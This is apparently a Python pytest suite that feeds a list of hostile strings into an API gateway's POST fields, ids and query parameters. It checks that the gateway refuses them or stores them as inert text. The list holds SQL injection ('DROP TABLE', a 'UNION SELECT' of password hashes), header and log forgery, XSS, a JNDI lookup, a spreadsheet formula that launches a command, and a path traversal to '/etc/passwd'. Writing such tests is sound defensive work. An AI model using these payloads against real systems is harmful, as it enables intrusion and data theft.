"""Hostile text in every text field of every operation: kept as it is or refused, and never anything but text."""

import json
from collections.abc import AsyncIterator, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from open_site import Site, open_site

from gateway.operations.every import INTERNAL_OPERATIONS
from gateway.operations.operation import Operation
from gateway.schema import json_schema

HOSTILE = (
    "'; DROP TABLE api_keys; --",
    "x' OR '1'='1",
    '") UNION SELECT password_hash FROM users --',
    "%",
    "_%\\",
    ':id "id" $1 ? {0} %s',
    'x\n{"level": "error", "event": "forged"}',
    "x\r\nset-cookie: service_session=forged",
    "x\x00y",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egpj.exe",
    "\u2028\u2029\x85",
    "<script>alert(1)</script>",
    "{{7*7}}${jndi:ldap://x.test/a}",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "\U0001f4a5" * 50,
    "x" * 100_000,
)
# What stands in the fields that are not the one under test. Operations that are not named here get what their schema asks.
GOOD: dict[str, dict[str, Any]] = {
    "keys.create": {"name": "x", "scopes": ["shield:scan"]},
    "users.create": {"username": "somebody", "password": "a long enough password", "role": "viewer"},
    "access.add": {"list": "deny", "type": "MODEL", "value": "x"},
    "providers.create": {"name": "x", "type": "echo"},
    "budgets.create": {"limit": 1, "scope": "agent", "scope_value": "x", "name": "x"},
    "risk_acceptances.create": {
        "scope": "rule_agent", "rule": "say-please", "agent": "x", "any_key": True, "reason": "x",
        "until": (datetime.now(UTC) + timedelta(days=9)).strftime("%Y-%m-%dT%H:%M:%SZ"),
    },
}  # fmt: skip
POSTS = [row for row in INTERNAL_OPERATIONS if row.route[0] == "POST" and row.takes is not None]
NAMED = [row for row in INTERNAL_OPERATIONS if "{id}" in row.route[1]]


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[Site]:
    async with open_site(tmp_path) as one:
        yield one
        for line in one.log.getvalue().splitlines():
            assert json.loads(line)["event"] != "forged"
        assert (await one.gateway.audit.verify()).ok


def good(row: Operation) -> dict[str, Any]:
    assert row.takes is not None
    schema: Any = json_schema(row.takes)
    if row.name in GOOD:
        return GOOD[row.name]
    return {name: example(schema["properties"][name]) for name in schema.get("required", ()) if name != "id"}


def example(schema: Any) -> Any:
    if "enum" in schema:
        return schema["enum"][0]
    kind = schema.get("type", "string")
    return {"integer": 1, "number": 1, "boolean": True, "array": [], "object": {}}.get(kind, "x")


def hostile(row: Operation) -> Iterator[tuple[str, dict[str, Any]]]:
    """Return the bodies of a row with a hostile text in one of its fields, which may hold texts in a list."""
    schema: Any = json_schema(row.takes)  # type: ignore[arg-type]
    for name, field in schema["properties"].items():
        words = json.dumps(field)
        # A password is hashed, which takes its time on purpose.
        for text in HOSTILE[::6] if name == "password" else HOSTILE:
            if name != "id" and '"string"' in words:
                yield name, good(row) | {name: [text] if '"array"' in words else text}


async def tables(site: Site) -> dict[str, Sequence[str]]:
    db = site.gateway.store.db
    return {one.name: one.columns for one in await db.read(db.shapes)}


@pytest.mark.parametrize("row", POSTS, ids=lambda row: row.name)
async def test_hostile_text_in_any_field_is_text_or_refused(site: Site, row: Operation) -> None:
    before = await tables(site)
    path = row.route[1].replace("{id}", "nothing")
    kept = 0
    for name, body in hostile(row):
        answer = await site.ask("POST", path, body)
        assert answer["status"] in (200, 201, 400, 401, 404, 409, 429), (name, body[name], answer)
        assert not {"set-cookie"} & set(answer["headers"])
        kept += answer["status"] == 201
        if answer["status"] == 201 and isinstance(answer["data"].get(name), str):
            assert answer["data"][name] in (body[name], body[name].strip(), body[name].strip().casefold())
            if "id" in answer["data"] and any(one.route == ("GET", f"{path}/{{id}}") for one in NAMED):
                shown = await site.ask("GET", f"{path}/{answer['data']['id']}")
                assert shown["status"] == 200
    assert await tables(site) == before
    assert kept or row.name not in GOOD, "some hostile text is good text"
    assert await site.key(), "everything is as it was"


async def test_a_hostile_id_names_nothing(site: Site) -> None:
    made = await site.key()
    for row in NAMED:
        for text in HOSTILE[:-1]:
            path = row.route[1].replace("{id}", quote(text, safe=""))
            answer = await site.ask(row.route[0], path, None if row.route[0] == "GET" else good(row))
            assert answer["status"] in (400, 404), (row.name, text, answer)
    assert (await site.ask("GET", f"/api/config/api-keys/{made['id']}"))["data"]["status"] == "active"


async def test_hostile_text_in_a_query_finds_nothing_and_breaks_nothing(site: Site) -> None:
    await site.key()
    for row in INTERNAL_OPERATIONS:
        for parameter in row.query:
            for text in HOSTILE[:-1]:
                path = row.route[1].replace("{id}", "nothing")
                answer = await site.ask(row.route[0], f"{path}?{parameter.name}={quote(text, safe='')}")
                assert answer["status"] in (200, 400, 404), (row.name, parameter.name, text, answer)
